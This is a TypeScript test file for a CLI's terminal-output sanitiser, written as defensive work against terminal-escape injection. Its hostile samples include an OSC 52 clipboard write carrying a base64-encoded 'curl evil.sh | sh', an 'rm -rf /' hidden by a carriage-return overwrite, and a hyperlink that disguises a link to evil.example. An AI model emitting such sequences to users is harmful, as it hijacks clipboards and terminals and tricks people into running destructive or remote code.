import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { afterAll, describe, expect, it } from "vitest";
import { main } from "./main";
import { terminalJson, terminalSafe } from "./terminal-text";

const ESC = "\u001b";
const BEL = "\u0007";
const ST = `${ESC}\\`;
/** Any control character a terminal could act on (all of C0 but tab and newline, DEL, C1). */
// eslint-disable-next-line no-control-regex
const ANY_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;

// What a model could put in an artifact or its feedback to take over a reviewer's terminal.
const HOSTILE: Record<string, [string, string]> = {
  "colours": [`${ESC}[31;1mred${ESC}[0m`, "red"],
  "clear screen and home": [`keep${ESC}[2J${ESC}[H`, "keep"],
  "cursor up and erase line (rewrites what was printed)": [`FAILED\n${ESC}[1A${ESC}[2Kpassed`, "FAILED\npassed"],
  "OSC 52 clipboard write, BEL-terminated": [`a${ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g=${BEL}b`, "ab"],
  "OSC 8 hyperlink that lies, ST-terminated": [`${ESC}]8;;https://evil.example${ST}docs${ESC}]8;;${ST}`, "docs"],
  "window title": [`${ESC}]0;pwned${BEL}text`, "text"],
  "unterminated OSC swallows the rest": [`ok${ESC}]52;c;AAAA and more`, "ok"],
  "DCS string": [`${ESC}Pq#0;2;0;0;0${ST}after`, "after"],
  "8-bit CSI": ["x\u009b31my", "xy"],
  "8-bit OSC": ["x\u009d0;title\u009cy", "xy"],
  "C1 NEL and others": ["a\u0085b\u008dc", "abc"],
  "carriage return overwrite": ["rm -rf /\r# harmless comment", "rm -rf /# harmless comment"],
  "backspace, bell, NUL, DEL": ["a\bb\u0007c\u0000d\u007fe", "abcde"],
  "charset switch (ESC ( 0)": [`${ESC}(0lqk${ESC}(B`, "lqk"],
  "lone escape at the end": [`end${ESC}`, "end"],
};

describe("terminalSafe", () => {
  it.each(Object.entries(HOSTILE))("removes %s", (_name, [input, expected]) => {
    const safe = terminalSafe(input);
    expect(safe).toBe(expected);
    expect(safe).not.toMatch(ANY_CONTROL);
  });

  it("keeps benign look-alikes: newlines, tabs, brackets, Unicode text", () => {
    const benign = "def f(x):\n\treturn x[31] + '[0m' # é ü 漢字 🚀 \\x1b \\u001b";
    expect(terminalSafe(benign)).toBe(benign);
  });

  it("stays linear on pathological input (a megabyte of escapes and unterminated sequences)", () => {
    const nasty = `${ESC}[`.repeat(200_000) + `${ESC}]`.repeat(200_000) + "\u009b".repeat(200_000);
    const started = Date.now();
    expect(terminalSafe(nasty)).not.toMatch(ANY_CONTROL);
    expect(Date.now() - started).toBeLessThan(5_000);
  });
});

describe("terminalJson", () => {
  it("escapes every control character yet parses back to the same data", () => {
    const value = { content: Object.values(HOSTILE).map(([input]) => input).join("\n"), line: "a\u2028b" };
    const json = terminalJson(value, 2);
    expect(json).not.toMatch(ANY_CONTROL);
    expect(json).not.toMatch(/[\u2028\u2029]/);
    expect(JSON.parse(json)).toEqual(value);
  });
});

describe("every command's output passes through it", () => {
  const folder = mkdtempSync(join(tmpdir(), "dualstate-terminal-"));
  afterAll(() => rmSync(folder, { recursive: true, force: true }));

  async function cli(...argv: string[]) {
    const out: string[] = [];
    const err: string[] = [];
    const code = await main(argv, { DATABASE_URL: `file:${join(folder, "x.db")}` } as unknown as NodeJS.ProcessEnv, { out: (text) => void out.push(text), err: (text) => void err.push(text) });
    return { code, out: out.join("\n"), err: err.join("\n") };
  }

  it("an artifact full of escape sequences: the guard's JSON verdict escapes them, nothing raw reaches the terminal", async () => {
    const artifact = join(folder, "evil.js");
    writeFileSync(artifact, `function (${ESC}]52;c;ZXZpbA==${BEL}${ESC}[2J\u009b1A\n`);
    const { code, out } = await cli("guard", "syntax", artifact);
    expect(code).toBe(0);
    expect(out).not.toMatch(ANY_CONTROL);
    expect((JSON.parse(out) as { passed: boolean }).passed).toBe(false);
  });

  it("a workflow document whose name carries escape sequences is refused by the name rule, and prints without them", async () => {
    const example = readFileSync(fileURLToPath(new URL("../../examples/agent-loop.yaml", import.meta.url)), "utf8");
    const evilName = 'name: "Evil \\e]0;pwned\\a\\e[31mflow\\e[0m"';
    const renamed = example.replace(/^(\s*)name: agent-loop$/gm, `$1${evilName}`);
    const otherwiseValid = join(folder, "evil.yaml");
    writeFileSync(otherwiseValid, renamed);
    const refused = await cli("validate", otherwiseValid);
    expect(refused.code).toBe(1);
    expect(`${refused.out}${refused.err}`).toMatch(/workflow\.name .*may hold only letters/);
    expect(`${refused.out}${refused.err}`).not.toMatch(ANY_CONTROL);
    const invalid = join(folder, "evil-invalid.yaml");
    writeFileSync(invalid, `${evilName}\nstate_machine: 7\n`);
    const failed = await cli("validate", invalid);
    expect(failed.code).toBe(1);
    expect(`${failed.out}${failed.err}`).not.toMatch(ANY_CONTROL);
  });
});
